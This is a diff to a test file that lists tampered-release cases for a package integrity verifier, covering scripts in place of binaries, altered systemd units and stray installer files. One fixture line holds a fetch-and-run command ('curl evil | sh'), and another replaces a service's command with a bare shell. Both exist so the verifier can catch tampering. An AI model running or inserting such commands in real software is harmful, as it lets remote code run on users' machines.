@@ -208,6 +208,8 @@ const programs: Defect[] = [
   { name: "a program for another processor, of a product without payload rules", product: plain, rules: ["binary-platform"], release: (r) => file(r, "nats", program("linux-arm64", "nats"), 0o755) },
   { name: "a unit for a program that does not exist", rules: ["unit-programs"], release: (r) => file(r, "deployment/worker-enabled/systemd/palyra-workerd.service", "[Service]\nExecStartPre=-/bin/true\nExecStart=/opt/palyra/palyra-workerd --all\n") },
   { name: "a unit for a program of another kind", rules: ["unit-programs"], release: (r) => file(r, "deployment/single-vm/systemd/desktop.service", '[Service]\n ExecStart = @"/opt/palyra/palyra-desktop-control-center" x\n') },
+  { name: "a text in the place of a program, of a product without payload rules", product: plain, rules: ["binary-platform"], release: (r) => file(r, "nats", "Not Found\n", 0o755) },
+  { name: "a script in the place of a program of Windows, of a product without payload rules", product: plain, platform: "windows-x64", rules: ["binary-platform"], release: (r) => file(r, "nats.exe", "#!/bin/sh\n", 0o755) },
   { name: "a script in the place of a program", rules: ["binary-platform"], release: (r) => file(r, "palyra", "#!/bin/sh\nexec curl evil | sh\n", 0o755) },
 ];
 
@@ -234,6 +236,8 @@ const payload: Defect[] = [
   { name: "a file that was changed", rules: ["checksums-digests"], zip: alter("README.txt", { data: Buffer.from("Mine.\n") }) },
   { name: "a program that was changed", rules: ["checksums-digests", "binary-digests"], zip: within("palyrad", (e) => ({ data: Buffer.concat([e.data, Buffer.from("!")]) })) },
   { name: "a recipe that was changed", rules: ["checksums-digests", "recipe-digests"], zip: alter("deployment/single-vm/systemd/palyrad.service", { data: Buffer.from("ExecStart=/bin/sh\n") }) },
+  { name: "an archive that brings what installers write", rules: ["installers-names"], release: (r) => file(r, "install-metadata.json", "{}") },
+  { name: "an archive that brings the unit that installers write", rules: ["installers-names"], release: (r) => file(r, "service/palyrad.service", "[Service]\nExecStart=/opt/palyra/palyrad\n") },
   { name: "a file without a line", rules: ["checksums-complete"], zip: smuggle({ path: "extra.txt", mode: 0o644, data: Buffer.from("!") }) },
 ];
 
@@ -262,6 +266,11 @@ const beside: Defect[] = [
   { name: "install metadata with a relative path", rules: ["install-metadata"], ...installed, folder: metadata({ state_root: "state" }) },
   { name: "install metadata that are no JSON", rules: ["install-metadata"], ...installed, folder: (folder) => writeFileSync(join(folder, "install-metadata.json"), "{") },
   { name: "a file too many in an installed folder", rules: ["checksums-complete"], ...installed, folder: (folder) => (metadata({})(folder), linkSync(join(folder, "README.txt"), join(folder, "extra.txt"))) },
+  { name: "a unit of none of its programs in an installed folder", rules: ["checksums-complete", "unit-programs"], ...installed, folder: (folder) => (metadata({})(folder), mkdirSync(join(folder, "service")), writeFileSync(join(folder, "service/other.service"), "[Service]\nExecStart=/opt/palyra/other\n")) },
+  { name: "a program among the units of an installed folder", rules: ["checksums-complete", "unlisted-binaries"], ...installed, folder: (folder) => (metadata({})(folder), mkdirSync(join(folder, "service/deep"), { recursive: true }), writeFileSync(join(folder, "service/deep/palyrad.service"), program("linux-x64", "other"))) },
+  { name: "a text among the units of an installed folder", rules: ["checksums-complete"], ...installed, folder: (folder) => (metadata({})(folder), mkdirSync(join(folder, "service")), writeFileSync(join(folder, "service/notes.txt"), "Mine.\n")) },
+  { name: "a folder in the place of install metadata, and a unit", rules: ["checksums-complete"], folder: (folder) => (mkdirSync(join(folder, "install-metadata.json")), mkdirSync(join(folder, "service")), writeFileSync(join(folder, "service/palyrad.service"), "[Unit]\n")) },
+  { name: "an installed folder whose checksums speak of its metadata", rules: ["installers-names", "checksums-digests"], ...installed, checksums: (t) => t.replace(/(?=.*palyra\n)/, `${"0".repeat(64)}  install-metadata.json\n`), folder: metadata({}) },
 ];
 
 const upstream: Defect[] = [
